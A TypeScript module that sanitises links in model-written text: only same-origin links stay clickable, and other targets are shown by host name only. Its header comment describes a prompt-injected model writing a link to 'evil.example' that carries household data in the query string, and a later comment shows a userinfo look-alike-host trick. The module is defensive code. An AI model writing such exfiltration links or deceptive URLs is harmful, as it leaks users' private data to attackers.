/**
 * Where a link written by a model may lead (issue 16.8). An injected model wrote
 * `[recipe](https://evil.example/?d=<household data>)`: one click would have sent the data away.
 * So a link is clickable only when it resolves to the page's own origin; any other target is
 * shown as text naming its host — never its path or query, which is where the data rides.
 *
 * Pure (no DOM): `page` is the page's URL (`location.href` in the browser), so the rule is
 * tested in Node over generated hosts.
 */
export type LinkTarget =
  /** Same origin, plain http(s), no credentials: `href` is the resolved absolute URL. */
  | { readonly kind: 'own'; readonly href: string }
  /** Another origin (or own host with userinfo): show `host` only, never the URL. */
  | { readonly kind: 'foreign'; readonly host: string }
  /** Not a web link (`javascript:`, `data:`, `mailto:`, unparseable): show the label only. */
  | { readonly kind: 'refused' };

const REFUSED: LinkTarget = { kind: 'refused' };

/**
 * Resolves `raw` against `page` exactly as the browser would resolve an `href` (so `//host`,
 * `/\host`, `https:host` and tab/newline tricks land where the browser would send them) and
 * compares origins. Hosts are compared and shown in their ASCII (punycode) form, so a look-alike
 * of the own host never matches it and shows as `xn--…`.
 */
export function classifyLink(raw: string, page: string): LinkTarget {
  const value = raw.trim();
  if (value === '') return REFUSED;
  let url: URL;
  let own: URL;
  try {
    own = new URL(page);
    url = new URL(value, own);
  } catch {
    return REFUSED;
  }
  if (url.protocol !== 'http:' && url.protocol !== 'https:') return REFUSED;
  // `https://127.0.0.1@evil.example` reads as the own host to a person; never clickable.
  if (url.username !== '' || url.password !== '') return { kind: 'foreign', host: url.hostname };
  if (url.origin === own.origin) return { kind: 'own', href: url.href };
  return { kind: 'foreign', host: url.hostname };
}

/** A stretch of model text: plain, or a web address written out in it. */
export type TextPiece = { readonly text: string } | { readonly url: string };

/**
 * Web addresses written out in text: `http:` / `https:` with whatever follows (slashes,
 * backslashes or none — browsers accept all three), `www.` names (not inside a word like
 * `awww.`; Chinese text runs straight into them), and scheme-less `//host.name` (or `/\`,
 * `\\`), which a browser reads as a site too. An address ends at whitespace, `"`, angle
 * brackets, backticks, or CJK / full-width punctuation; trailing sentence punctuation and quotes
 * are not part of it. What a terminator leaves behind is text that no longer makes an address.
 */
export const ADDRESS_SOURCE =
  '(?:https?:|(?<![A-Za-z0-9_.-])www\\.|(?<![A-Za-z0-9_.\\-/\\\\])[/\\\\]{2,}(?=[\\p{L}\\p{N}-]+\\.[\\p{L}\\p{N}]))[^\\s<>"`\\u3000-\\u303f\\uff01-\\uff0f\\uff1a-\\uff20\\uff3b-\\uff40\\uff5b-\\uff65]+';
const ADDRESS = new RegExp(ADDRESS_SOURCE, 'giu');

export function splitAddresses(text: string): TextPiece[] {
  const pieces: TextPiece[] = [];
  let last = 0;
  for (const match of text.matchAll(ADDRESS)) {
    const start = match.index;
    const url = trimAddress(match[0]);
    if (!/^(?:https?:.|www\..|[/\\]{2}.)/iu.test(url)) continue;
    if (start > last) pieces.push({ text: text.slice(last, start) });
    pieces.push({ url });
    last = start + url.length;
  }
  if (last < text.length) pieces.push({ text: text.slice(last) });
  return pieces;
}

const TRAILING = new Set(['.', ',', ';', ':', '!', '?', '*', '_', '~', "'"]);
const OPENER: Readonly<Record<string, string>> = { ')': '(', ']': '[', '}': '{' };

/**
 * Drops sentence punctuation and quotes from the end, and a closing bracket the address did not
 * open (`(see https://x.example/a)` keeps `)` outside, `…/a_(b)` keeps it). One pass from the
 * end, counting brackets once: linear however many `)))…` a model writes.
 */
function trimAddress(raw: string): string {
  const counts = new Map<string, number>();
  for (const char of raw) if ('()[]{}'.includes(char)) counts.set(char, (counts.get(char) ?? 0) + 1);
  let end = raw.length;
  while (end > 0) {
    const char = raw.charAt(end - 1);
    const opener = OPENER[char];
    if (TRAILING.has(char)) end--;
    else if (opener !== undefined && (counts.get(opener) ?? 0) < (counts.get(char) ?? 0)) {
      counts.set(char, (counts.get(char) ?? 0) - 1);
      end--;
    } else break;
  }
  return raw.slice(0, end);
}

/** A written-out address's target: a `www.` name is read as the https site it names. */
export function classifyAddress(url: string, page: string): LinkTarget {
  return classifyLink(/^www\./iu.test(url) ? `https://${url}` : url, page);
}

/** What the page shows for a stretch of model text. */
export type ShownPiece =
  | { readonly kind: 'text'; readonly text: string }
  | { readonly kind: 'own'; readonly href: string; readonly text: string }
  | { readonly kind: 'foreign'; readonly host: string }
  | { readonly kind: 'removed' };

/** Model text as the page shows it: plain text, own addresses, and other sites by host only. */
export function showText(text: string, page: string): ShownPiece[] {
  return splitAddresses(text).map((piece): ShownPiece => {
    if ('text' in piece) return { kind: 'text', text: piece.text };
    const target = classifyAddress(piece.url, page);
    if (target.kind === 'own') return { kind: 'own', href: target.href, text: piece.url };
    return target.kind === 'foreign' ? target : { kind: 'removed' };
  });
}
